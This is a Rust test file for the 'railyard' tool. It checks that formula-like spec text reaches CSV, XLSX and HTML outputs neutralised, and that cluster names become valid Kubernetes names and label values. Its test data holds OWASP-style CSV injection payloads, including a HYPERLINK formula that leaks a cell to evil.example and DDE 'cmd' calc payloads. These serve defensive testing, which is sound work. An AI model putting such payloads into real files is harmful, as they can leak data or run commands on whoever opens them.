//! Two sinks of issue #25's "one audited escape per sink", checked with their consumers' rules:
//!
//! - CSV cells: a spec text that begins like a formula reaches `bom.csv` neutralised as OWASP's
//!   "CSV Injection" page advises (a leading `'`), read back with the csv crate; no cell of any
//!   CSV railyard writes begins with a formula character; the workbook (calamine) and the
//!   report's data show the text itself, as text, never a formula.
//! - Kubernetes names: a 5,000-character cluster name is refused at the spec boundary (a located
//!   RY0002); the names the spec does accept but Kubernetes does not take as they are (63
//!   characters with capitals, `_`, a trailing `_`, and the longer names railyard joins from
//!   them) reach the Kueue and label files only as valid names and label values, checked with
//!   `grep -E` against the expressions of Kubernetes' own validation, and two such names do not
//!   collide.

use crate::common;

use std::io::Write;
use std::process::{Command, Stdio};

use calamine::{Data, Reader, Xlsx};
use railyard::output::{OutputFile, OutputGroup, Selection};
use serde_json::Value;

/// OWASP's examples (cmd, HYPERLINK, the four leading characters), as a spec's free text.
const HOSTILE: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click for details\")",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
];

/// OWASP: cells beginning with these are read as formulas.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// lab-small with the node model's description set to `text`.
fn lab_with_description(text: &str) -> String {
    let spec = common::inventory("lab-small.yaml");
    let line = "description: Lab GPU server, 2 GPUs and 2 x 100G compute NICs";
    assert!(spec.contains(line));
    // A JSON string is a YAML double-quoted scalar.
    let quoted = serde_json::to_string(text).expect("json");
    spec.replace(line, &format!("description: {quoted}"))
}

fn csv_records(f: &OutputFile) -> Vec<Vec<String>> {
    csv::Reader::from_reader(&f.bytes[..])
        .records()
        .map(|r| r.expect("record").iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn a_formula_in_a_spec_text_is_a_neutralised_csv_cell() {
    for text in HOSTILE {
        let files = common::outputs(&lab_with_description(text));
        let bom = files.iter().find(|f| f.path == "bom.csv").expect("bom.csv");
        let node_rows: Vec<Vec<String>> = csv_records(bom)
            .into_iter()
            .filter(|r| r[0] == "node")
            .collect();
        assert_eq!(node_rows.len(), 1, "{node_rows:?}");
        // `'` before the formula start, and before any formula start behind a separator
        // (#38: `,"Error…` is one for a spreadsheet that ignores quotes); read back exactly.
        let cell = &node_rows[0][2];
        assert!(
            cell.starts_with(&format!("'{}", &text[..1])),
            "bom.csv: {cell}"
        );
        assert_eq!(railyard::output::csv::uncell(cell), *text, "bom.csv");
        for f in files.iter().filter(|f| f.path.ends_with(".csv")) {
            for (i, row) in csv_records(f).iter().enumerate() {
                for cell in row {
                    assert!(
                        !cell.starts_with(FORMULA_START),
                        "{} row {}: `{cell}` begins like a formula",
                        f.path,
                        i + 2
                    );
                }
            }
        }
        check_workbook_shows_the_text(&files, text);
        check_report_shows_the_text(&files, text);
    }
}

/// The workbook's BOM sheet holds the description as it is, a string, and no formula at all.
fn check_workbook_shows_the_text(files: &[OutputFile], text: &str) {
    let xlsx = files
        .iter()
        .find(|f| f.path == "cabling.xlsx")
        .expect("xlsx");
    let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx.bytes.clone())).expect("xlsx");
    let bom = wb.worksheet_range("BOM").expect("BOM sheet");
    assert!(
        bom.rows()
            .any(|r| r.iter().any(|c| *c == Data::String(text.to_string()))),
        "the BOM sheet shows `{text}`"
    );
    let formulas = wb.worksheet_formula("BOM").expect("formulas");
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula in the BOM sheet"
    );
}

/// The report's data block (what its script draws the BOM table from) holds the text itself.
fn check_report_shows_the_text(files: &[OutputFile], text: &str) {
    let html = common::file(files, "report.html");
    let start = "<script id=\"report-data\" type=\"application/json\">";
    let json = html
        .split(start)
        .nth(1)
        .and_then(|r| r.split("</script>").next())
        .expect("data block");
    let data: Value = serde_json::from_str(json).expect("data json");
    let rows = data["bom"]["rows"].as_array().expect("bom rows");
    assert!(
        rows.iter().any(|r| r[2] == text),
        "the report's BOM shows `{text}`"
    );
}

// ---- Kubernetes -----------------------------------------------------------------------------

/// Label values, Kubernetes `validation.go` (`IsValidLabelValue`): at most 63 characters of
/// `(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?`. The documentation ("Labels and Selectors"):
/// "must be 63 characters or less (can be empty), unless empty, must begin and end with an
/// alphanumeric character ([a-z0-9A-Z]), could contain dashes (-), underscores (_), dots (.),
/// and alphanumerics between."
const LABEL_VALUE: (&str, usize) = ("(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?", 63);
/// RFC 1123 label names (`IsDNS1123Label`; "Object Names and IDs").
const DNS_LABEL: (&str, usize) = ("[a-z0-9]([-a-z0-9]*[a-z0-9])?", 63);
/// RFC 1123 subdomain names (`IsDNS1123Subdomain`), nodes' names.
const DNS_SUBDOMAIN: (&str, usize) = (
    "[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*",
    253,
);
/// Label keys (`IsQualifiedName`): an optional DNS subdomain prefix and `/`, then a name of at
/// most 63 characters of `([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]`.
const LABEL_KEY: (&str, usize) = (
    "([a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*/)?([A-Za-z0-9][-A-Za-z0-9_.]{0,61})?[A-Za-z0-9]",
    253 + 1 + 63,
);

/// The values that do not match `grammar` (POSIX `grep -E`, whole values, C locale).
fn not_matching(grammar: (&str, usize), values: &[String]) -> Vec<String> {
    let (re, max) = grammar;
    let mut bad: Vec<String> = values.iter().filter(|v| v.len() > max).cloned().collect();
    let mut grep = Command::new("grep")
        .args(["-zxvE", "-e", re])
        .env("LC_ALL", "C")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("grep runs");
    let mut input = Vec::new();
    for v in values {
        input.extend_from_slice(v.as_bytes());
        input.push(0);
    }
    grep.stdin
        .take()
        .expect("stdin")
        .write_all(&input)
        .expect("write");
    let out = grep.wait_with_output().expect("grep ends");
    assert!(out.status.code().is_some_and(|c| c <= 1), "grep failed");
    bad.extend(
        out.stdout
            .split(|b| *b == 0)
            .filter(|v| !v.is_empty())
            .map(|v| String::from_utf8_lossy(v).into_owned()),
    );
    bad
}

/// What the scheduler files hand to Kubernetes: object names, node names, label keys, label
/// values.
#[derive(Default, Debug)]
struct Names {
    objects: Vec<String>,
    nodes: Vec<String>,
    keys: Vec<String>,
    values: Vec<String>,
}

impl Names {
    fn labels(&mut self, labels: &serde_json::Map<String, Value>) {
        for (k, v) in labels {
            self.keys.push(k.clone());
            self.values
                .push(v.as_str().expect("string value").to_string());
        }
    }

    /// A Kueue document: its name, the topology it points at, the labels it selects.
    fn kueue(&mut self, doc: &Value) {
        self.objects
            .push(doc["metadata"]["name"].as_str().expect("name").into());
        if let Some(t) = doc["spec"]["topologyName"].as_str() {
            self.objects.push(t.into());
        }
        if let Some(l) = doc["spec"]["nodeLabels"].as_object() {
            self.labels(l);
        }
    }

    /// `kubectl label node NODE [--overwrite] KEY=VALUE…` lines.
    fn script(&mut self, text: &str) {
        for line in text
            .lines()
            .filter(|l| l.starts_with("kubectl label node "))
        {
            for word in line.split_whitespace().skip(3) {
                match word.split_once('=') {
                    Some((k, v)) => {
                        self.keys.push(k.into());
                        self.values.push(v.into());
                    }
                    None if word.starts_with("--") => {}
                    None => self.nodes.push(word.into()),
                }
            }
        }
    }
}

fn scheduler_names(files: &[OutputFile]) -> Names {
    let mut n = Names::default();
    for f in files {
        let text = std::str::from_utf8(&f.bytes).expect("utf-8");
        if f.path.ends_with("kueue/node-labels.yaml") {
            let nodes: Vec<Value> = serde_saphyr::from_str(text).expect("node labels");
            for node in &nodes {
                n.nodes.push(node["name"].as_str().expect("name").into());
                n.labels(node["labels"].as_object().expect("labels"));
            }
        } else if f.path.ends_with("kueue/topology.yaml") || f.path.ends_with("/kueue.yaml") {
            let docs: Vec<Value> = serde_saphyr::from_multiple(text).expect("kueue yaml");
            docs.iter().for_each(|d| n.kueue(d));
        } else if f.path.ends_with("label-nodes.sh") {
            n.script(text);
        }
    }
    n
}

/// The InfiniBand tenants example with the cluster named `name`.
fn tenants_spec(name: &str) -> String {
    let spec = common::inventory("dgx-superpod-h100-tenants.yaml");
    let line = "name: superpod-h100-tenants";
    assert!(spec.contains(line));
    let quoted = serde_json::to_string(name).expect("json");
    spec.replacen(line, &format!("name: {quoted}"), 1)
}

/// The host files (scheduler and tenants) of the InfiniBand tenants example named `name`.
fn host_files(name: &str) -> Vec<OutputFile> {
    let c = railyard::compile(&railyard::diag::SourceFile::new(
        "spec.yaml",
        tenants_spec(name),
    ));
    let templates = railyard::render::Templates::default();
    match c.outputs_only(&templates, &Selection::of(&[OutputGroup::Hosts])) {
        Some(Ok(files)) => files,
        Some(Err(e)) => panic!("{e}"),
        None => panic!("did not compile: {:?}", c.diagnostics.sorted()),
    }
}

/// The 5,000-character cluster name never reaches a Kubernetes file: the spec boundary
/// refuses it, located at the name.
#[test]
fn a_5000_character_cluster_name_is_refused_where_it_is_written() {
    let long = "Big_Cluster.".repeat(417);
    let spec = tenants_spec(&long);
    let c = railyard::compile(&railyard::diag::SourceFile::new("spec.yaml", spec.clone()));
    assert!(c.design.is_none(), "compiled");
    let errors = c.diagnostics.sorted();
    let at = spec.find(&long).expect("name in spec");
    assert!(
        errors.iter().any(|d| d.code.id == "RY0002"
            && d.span.is_some_and(|s| {
                let (start, end) = (s.start as usize, (s.start + s.len) as usize);
                start <= at && at + long.len() <= end
            })),
        "{errors:?}"
    );
}

#[test]
fn names_the_spec_accepts_give_only_valid_kubernetes_names() {
    // The longest name the spec grammar accepts, in capitals, with `_` inside and last: no
    // Kubernetes object name or label value as it is.
    let long = format!("{}Bi_", "Big_Cluster.".repeat(5));
    assert_eq!(long.len(), 63);
    let files = host_files(&long);
    let n = scheduler_names(&files);
    assert!(
        n.values.len() > 100 && n.objects.len() >= 4 && n.nodes.len() > 100,
        "{n:?}"
    );
    for (what, grammar, values) in [
        ("label value", LABEL_VALUE, &n.values),
        ("object name", DNS_LABEL, &n.objects),
        ("node name", DNS_SUBDOMAIN, &n.nodes),
        ("label key", LABEL_KEY, &n.keys),
    ] {
        let bad = not_matching(grammar, values);
        assert!(bad.is_empty(), "not a Kubernetes {what}: {bad:?}");
    }
    // The files say what the mapped name stands for.
    let topology = common::file(&files, "scheduler/kueue/topology.yaml");
    assert!(
        topology.contains(&format!("stands for cluster `{long}`")),
        "{topology}"
    );

    // Two names that differ only in a character the mapping replaces are two clusters to
    // Kubernetes.
    let other = host_files(&format!("{}Bi.", "Big_Cluster.".repeat(5)));
    let cluster_value = |files: &[OutputFile]| {
        let labels = common::file(files, "scheduler/kueue/node-labels.yaml");
        let nodes: Vec<Value> = serde_saphyr::from_str(&labels).expect("labels");
        nodes[0]["labels"]["topology.railyard.dev/cluster"].clone()
    };
    assert_ne!(cluster_value(&files), cluster_value(&other));
}

/// A name that fits is used as it is (the examples' files keep their names).
#[test]
fn a_name_that_fits_stays_as_it_is() {
    let files = host_files("superpod-h100-tenants");
    let n = scheduler_names(&files);
    assert!(n.values.contains(&"superpod-h100-tenants".to_string()));
    assert!(
        n.objects
            .contains(&"superpod-h100-tenants-team-llm".to_string())
    );
    for (grammar, values) in [(LABEL_VALUE, &n.values), (DNS_LABEL, &n.objects)] {
        assert!(not_matching(grammar, values).is_empty());
    }
    // The checker itself refuses what Kubernetes refuses.
    let bad = ["-x".to_string(), "x".repeat(64), "a b".to_string()];
    assert_eq!(not_matching(LABEL_VALUE, &bad).len(), 3);
}
